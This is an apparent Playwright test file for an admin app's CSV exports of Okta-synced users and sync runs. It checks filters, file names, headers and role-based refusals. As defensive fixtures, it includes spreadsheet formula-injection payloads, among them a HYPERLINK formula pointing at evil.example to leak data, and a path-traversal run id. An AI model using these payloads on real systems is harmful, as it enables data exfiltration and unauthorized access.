// CSV exports, downloaded in Chromium from the pages of a production build as an admin would: the
// Users page with its filters (every page of them, with and without JavaScript) and a run's changes
// and errors, from a real sync of an Okta org whose names are spreadsheet formulas. Then the
// refusals over HTTP, all at once: no session, a Member for a run, another organization's run.
import { readFileSync } from "node:fs";
import type { APIRequestContext, Browser, Page } from "@playwright/test";
import { type FakeOkta, startFakeOkta } from "@/scripts/fake-okta";
import { csvRecords } from "@/test-support/csv";
import { client, signInOverHttp } from "./support/actions";
import { createOrganization, type Organization, PASSWORD, signInAs } from "./support/organizations";
import { expect, test } from "./support/stack-fixture";
import { createRun, createSync, syncNowAs } from "./support/world";

const TOKEN = "00csv-export-okta-token-0123456789abcdef";
const SYNC_NAME = "Okta Ünited";
/** Display names that a spreadsheet would evaluate, or that break naive CSV. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak","Click")',
  "+1",
  "-2+3",
  "@SUM(A1)",
  'Lee, "Ann"',
  "Zoë Ångström 👩🏽‍💻",
];

/** What a spreadsheet shows of a cell (OWASP's guard: a quote before what it would evaluate). */
const shown = (value: string) => (/^[=+\-@\t\r]/.test(value) ? `'${value}` : value);

const exportingOkta = () =>
  startFakeOkta({
    token: TOKEN,
    data: {
      users: [
        // More suspended users than a page of the Users page (50) shows.
        ...Array.from({ length: 70 }, (_, i) => ({
          status: i % 2 ? "SUSPENDED" : "ACTIVE",
          profile: {
            login: `staff${i}@export.test`,
            email: `staff${i}@export.test`,
            firstName: "Staff",
            lastName: String(i).padStart(2, "0"),
          },
        })),
        ...HOSTILE.map((displayName, i) => ({
          status: "SUSPENDED",
          profile: { login: `odd${i}@export.test`, email: `odd${i}@export.test`, displayName },
        })),
        // Two Okta users with one email: the second is a per-user error.
        { profile: { login: "twin1@export.test", email: "twin@export.test", firstName: "Twin" } },
        { profile: { login: "twin2@export.test", email: "twin@export.test", firstName: "Twin" } },
      ],
    },
  });

let okta: FakeOkta;
let home: Organization;
let foreign: Organization;
let syncId: string;
let runId: string;
let foreignRunId: string;

test.beforeAll(async ({ stack }) => {
  okta = await exportingOkta();
  home = await createOrganization(stack.db, "Exporters");
  foreign = await createOrganization(stack.db, "Outsiders");
  const sync = await createSync(stack, home.id, okta, SYNC_NAME);
  syncId = sync.id;
  await syncNowAs(stack, home.owner.email, sync.id);
  runId = (await stack.db.syncRun.findFirstOrThrow({ where: { userSyncId: sync.id } })).id;

  const theirs = await createSync(stack, foreign.id, okta, "Their Okta");
  const run = await createRun(stack, theirs, "SUCCEEDED");
  foreignRunId = run.id;
  await stack.db.syncRunItem.create({
    data: { syncRunId: run.id, kind: "ERROR", userKey: "outsider@outside.test", reason: "Their error" },
  });
  await stack.db.directoryUser.create({
    data: { organizationId: foreign.id, name: "Outsider Olga", status: "SUSPENDED" },
  });
});
test.afterAll(async () => {
  await okta?.close();
});

async function signedIn(browser: Browser, baseURL: string, email: string, javaScriptEnabled = true) {
  const context = await browser.newContext({ baseURL, javaScriptEnabled, acceptDownloads: true });
  const page = await context.newPage();
  await signInAs(page, baseURL, email);
  return page;
}

/** Clicks a download link and reads the file the browser saved. */
async function download(page: Page, link: string) {
  const [file] = await Promise.all([
    page.waitForEvent("download"),
    page.getByRole("link", { name: link }).click(),
  ]);
  expect(await file.failure()).toBeNull();
  return { name: file.suggestedFilename(), text: readFileSync(await file.path(), "utf8") };
}

const today = () => new Date().toISOString().slice(0, 10);

for (const javaScriptEnabled of [true, false]) {
  test(`a Member exports the Users page with its filters, every page of it (JavaScript ${javaScriptEnabled ? "on" : "off"})`, async ({
    stack,
    browser,
  }) => {
    const page = await signedIn(browser, stack.url, home.member.email, javaScriptEnabled);
    if (javaScriptEnabled) {
      await page.goto("/user-management/users");
      await page.getByLabel("Status").selectOption("SUSPENDED");
      await page.getByLabel("Sort").selectOption("-name");
      await page.getByRole("button", { name: "Apply" }).click();
      await expect(page.getByText("41 users match these filters")).toBeVisible();
    } else {
      // Without JavaScript the table (streamed in) stays hidden, but not the header and its link.
      await page.goto("/user-management/users?status=SUSPENDED&sort=-name");
    }
    const link = page.getByRole("link", { name: "Export CSV" });
    await expect(link).toHaveAttribute("download", "");
    await expect(link).toHaveAttribute("href", "/api/users/export?status=SUSPENDED&sort=-name");

    const file = await download(page, "Export CSV");
    expect(file.name).toBe(`Exporters users ${today()}.csv`);
    expect(
      file.text.startsWith(
        "\uFEFFName,Email,Username,Status,Enrollment,Email verified,Source,Okta id,Created,Updated\r\n",
      ),
    ).toBe(true);
    const records = csvRecords(file.text);
    // The page's own query, in its order: every suspended user of the organization, no one else.
    const expected = await stack.db.directoryUser.findMany({
      where: { organizationId: home.id, status: "SUSPENDED" },
      orderBy: [{ nameSortKey: "desc" }, { id: "desc" }],
    });
    expect(records).toHaveLength(41);
    expect(records.map((r) => r.Name)).toEqual(expected.map((u) => shown(u.name)));
    expect(records.map((r) => r.Name)).toEqual(expect.arrayContaining(HOSTILE.map(shown)));
    expect(records.find((r) => r.Email === "odd0@export.test")).toEqual({
      Name: `'=HYPERLINK("http://evil.example/?leak","Click")`,
      Email: "odd0@export.test",
      Username: "odd0@export.test",
      Status: "SUSPENDED",
      Enrollment: "",
      "Email verified": "no",
      Source: SYNC_NAME,
      "Okta id": expect.stringMatching(/^00u\w+$/),
      Created: expect.stringMatching(/^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/),
      Updated: expect.stringMatching(/^\d{4}-\d\d-\d\dT/),
    });
    expect(file.text).not.toContain(TOKEN);
    expect(file.text).not.toContain("Outsider");
  });
}

test("an Administrator exports a run's changes and its errors from the run's page", async ({
  stack,
  browser,
}) => {
  const run = await stack.db.syncRun.findUniqueOrThrow({ where: { id: runId } });
  expect([run.status, run.usersCreated, run.usersFailed]).toEqual(["PARTIAL", 77, 1]);
  const page = await signedIn(browser, stack.url, home.admin.email);
  await page.goto(`/user-management/user-sync/${syncId}/runs/${runId}`);
  const stamp = (run.startedAt ?? run.queuedAt).toISOString();
  const fileName = (items: string) =>
    `${SYNC_NAME} run ${stamp.slice(0, 10)} ${stamp.slice(11, 13)}${stamp.slice(14, 16)} UTC ${items}.csv`;

  const changes = await download(page, "Export changes (CSV)");
  expect(changes.name).toBe(fileName("changes"));
  const created = csvRecords(changes.text);
  expect(created).toHaveLength(77);
  expect(new Set(created.map((r) => r.Kind))).toEqual(new Set(["Created"]));
  expect(created.map((r) => r.User).sort()).toEqual(
    [
      ...Array.from({ length: 70 }, (_, i) => `staff${i}@export.test`),
      ...HOSTILE.map((_, i) => `odd${i}@export.test`),
      "twin@export.test",
    ].sort(),
  );

  const errors = await download(page, "Export errors (CSV)");
  expect(errors.name).toBe(fileName("errors"));
  expect(csvRecords(errors.text)).toEqual([
    {
      Kind: "Error",
      User: "twin@export.test",
      "Okta id": expect.stringMatching(/^00u\w+$/),
      Reason: expect.stringMatching(/^Another directory user \(00u\w+\) has the same email$/),
      "Changed fields": "",
      Recorded: expect.stringMatching(/^\d{4}-\d\d-\d\dT/),
    },
  ]);
});

test("an export is a UTF-8 CSV attachment, never cached nor sniffed, named in ASCII and in UTF-8", async ({
  stack,
}) => {
  const http = await client(stack.url);
  await signInOverHttp(http, home.admin.email, PASSWORD);
  const users = await http.get("/api/users/export?status=SUSPENDED");
  expect(users.status()).toBe(200);
  const common = {
    "content-type": "text/csv; charset=utf-8",
    "cache-control": "no-store",
    "x-content-type-options": "nosniff",
  };
  expect(users.headers()).toMatchObject({
    ...common,
    "content-disposition": `attachment; filename="Exporters users ${today()}.csv"`,
  });
  expect([...(await users.body()).subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
  const errors = await http.get(`/api/sync-runs/${runId}/export?items=errors`);
  expect(errors.headers()).toMatchObject(common);
  expect(errors.headers()["content-disposition"]).toMatch(
    /^attachment; filename="Okta _nited run [^"]+ errors\.csv"; filename\*=UTF-8''Okta%20%C3%9Cnited%20run%20.+%20errors\.csv$/,
  );
});

test("exports refuse, all at once, a visitor, a Member for a run, and another organization's run", async ({
  stack,
}) => {
  const as = async (email: string | null) => {
    const http = await client(stack.url);
    if (email) expect((await signInOverHttp(http, email, PASSWORD)).status()).toBe(302);
    return http;
  };
  const [anonymous, member, admin, owner, foreignAdmin] = await Promise.all([
    as(null),
    as(home.member.email),
    as(home.admin.email),
    as(home.owner.email),
    as(foreign.admin.email),
  ]);
  const runExport = (id: string) => `/api/sync-runs/${id}/export?items=errors`;
  const calls: [string, APIRequestContext, string, number, RegExp | null][] = [
    ["a visitor, users", anonymous, "/api/users/export", 401, null],
    ["a visitor, a run", anonymous, runExport(runId), 401, null],
    ["a Member, a run", member, runExport(runId), 403, null],
    ["another organization's Administrator, this run", foreignAdmin, runExport(runId), 404, null],
    ["the Owner, another organization's run", owner, runExport(foreignRunId), 404, null],
    ["the Owner, a forged run id", owner, runExport("..%2F..%2Fusers"), 404, null],
    // Alongside, the permitted ones get their own organization's rows only.
    ["a Member, users", member, "/api/users/export", 200, /staff1@export\.test/],
    ["another organization's Administrator, users", foreignAdmin, "/api/users/export", 200, /Outsider Olga/],
    ["the Administrator, this run", admin, runExport(runId), 200, /twin@export\.test/],
  ];
  // Three rounds of every call at once: a session or organization never leaks into another request.
  const answers = await Promise.all(
    [1, 2, 3].flatMap(() =>
      calls.map(async ([who, http, path, status, content]) => {
        const response = await http.get(path);
        return {
          who,
          status,
          content,
          got: response.status(),
          type: response.headers()["content-type"],
          body: await response.text(),
        };
      }),
    ),
  );
  for (const { who, status, content, got, type, body } of answers) {
    expect(got, who).toBe(status);
    if (content) {
      expect(type, who).toBe("text/csv; charset=utf-8");
      expect(body, who).toMatch(content);
    } else expect(type, who).toMatch(/^application\/json/);
    // Never the other organization's rows, nor anyone's when refused.
    const outsiders = who.startsWith("another")
      ? [/export\.test/]
      : [/Outsider/, /outside\.test/, /Their error/];
    if (!content) outsiders.push(/export\.test/);
    for (const pattern of outsiders) expect(body, `${who}: ${pattern}`).not.toMatch(pattern);
  }
});
